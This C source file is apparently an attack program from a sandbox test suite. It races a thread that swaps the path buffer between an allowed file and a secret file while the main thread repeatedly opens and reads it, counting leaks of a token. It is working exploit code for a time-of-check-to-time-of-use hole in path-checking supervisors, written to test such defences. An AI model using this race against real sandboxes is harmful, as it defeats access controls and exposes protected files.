/* atk-open-race TRIES ALLOWED SECRET TOKEN - the time-of-check race on
 * open's path argument.
 *
 * A second thread keeps rewriting the path buffer between ALLOWED and
 * SECRET while the main thread opens and reads it.  A supervisor that
 * reads the path, allows it and lets the kernel read it again opens
 * SECRET.  Every read whose content holds TOKEN is a leak: the count and
 * the first leaked content are printed (run.sh greps for TOKEN too).
 * ALLOWED and SECRET should have the same length.  TOKEN is given
 * reversed, so that our own /proc/self/cmdline does not hold it.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "atk.h"

struct race {
	char path[256];
	char allowed[256];
	char secret[256];
	atomic_int stop;
};

static void *flipper(void *arg)
{
	struct race *r = arg;
	unsigned seed = (unsigned)getpid();
	while (!atomic_load_explicit(&r->stop, memory_order_relaxed)) {
		memcpy(r->path, r->secret, sizeof r->path);
		for (unsigned i = rand_r(&seed) % 32; i > 0; i--)
			syscall(SYS_getppid);
		memcpy(r->path, r->allowed, sizeof r->path);
		for (unsigned i = rand_r(&seed) % 32; i > 0; i--)
			syscall(SYS_getppid);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc != 5)
		atk_die("usage: atk-open-race TRIES ALLOWED SECRET TOKEN");
	long tries = strtol(argv[1], NULL, 10);
	static struct race r;
	snprintf(r.allowed, sizeof r.allowed, "%s", argv[2]);
	snprintf(r.secret, sizeof r.secret, "%s", argv[3]);
	memcpy(r.path, r.allowed, sizeof r.path);
	size_t token_len = strlen(argv[4]);
	char *token = strdup(argv[4]);
	if (!token)
		atk_die("out of memory");
	for (size_t k = 0; k < token_len; k++)
		token[k] = argv[4][token_len - 1 - k];
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, &r) != 0)
		atk_die("pthread_create failed");

	long opened = 0, refused = 0, leaks = 0;
	static char buf[65536], first[1024];
	for (long i = 0; i < tries; i++) {
		int fd = open(r.path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			refused++;
			continue;
		}
		opened++;
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n <= 0)
			continue;
		for (ssize_t k = 0; k < n; k++)
			if (buf[k] == '\0')
				buf[k] = ' ';
		buf[n] = '\0';
		if (strstr(buf, token)) {
			if (!leaks++)
				memcpy(first, buf, (size_t)n < sizeof first - 1 ? (size_t)n : sizeof first - 1);
		}
	}
	atomic_store(&r.stop, 1);
	pthread_join(t, NULL);
	printf("tries=%ld opened=%ld refused=%ld leaks=%ld\n", tries, opened, refused, leaks);
	if (leaks)
		printf("first leak: %s\n", first);
	free(token);
	return 0;
}
